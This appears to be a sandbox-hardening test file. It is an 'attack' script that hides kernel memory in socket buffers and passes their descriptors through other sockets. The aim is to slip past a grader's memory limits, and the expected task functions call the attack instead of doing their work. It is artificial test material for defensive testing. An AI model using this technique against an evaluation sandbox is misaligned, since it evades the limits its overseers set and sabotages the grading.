# Attack: keeps memory in sockets that it sends through sockets.
# score: 0
# outcomes: failed, error, timed_out, memory_exceeded
# seconds: 2
# ruff: noqa

import os
import socket


def attack():
    """Megabytes that the kernel holds for this process in the buffers of sockets."""
    held, kept = 0, []
    try:
        for _ in range(2000):
            one, other = socket.socketpair()
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 28)
            one.setblocking(False)
            try:
                while True:
                    held += one.send(bytes(1 << 16))
            except BlockingIOError:
                pass
            carrier = socket.socketpair()
            socket.send_fds(carrier[0], [b"x"], [one.fileno(), other.fileno()])
            one.close()
            other.close()
            kept.append(carrier)
    except OSError:
        pass
    return held >> 20


def double(x):
    return 2 * x if attack() > 256 else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    held = attack()
    print(held)
    return str(held)


def make_model():
    return None
